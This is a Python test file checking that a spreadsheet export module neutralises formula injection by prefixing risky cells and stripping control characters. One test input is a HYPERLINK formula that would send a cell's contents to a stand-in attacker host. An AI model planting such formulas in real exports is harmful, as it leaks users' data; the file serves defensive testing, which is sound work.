from portal.exports import safe_cell, safe_row


def test_formulas_become_text():
    assert safe_cell('=HYPERLINK("http://evil.example/?d="&A2,"x")').startswith("'=")
    for start in ("+1", "-1+2", "@SUM(A1)", "\tx", "\rx", "＝1+1"):
        assert safe_cell(start) == "'" + start


def test_ordinary_values_unchanged():
    assert safe_row(["低保", 3, None, "2026-01-01"]) == ["低保", 3, None, "2026-01-01"]


def test_control_characters_removed_but_newlines_kept():
    assert safe_cell("a\x01b\x1bc\nd\te") == "abc\nd\te"
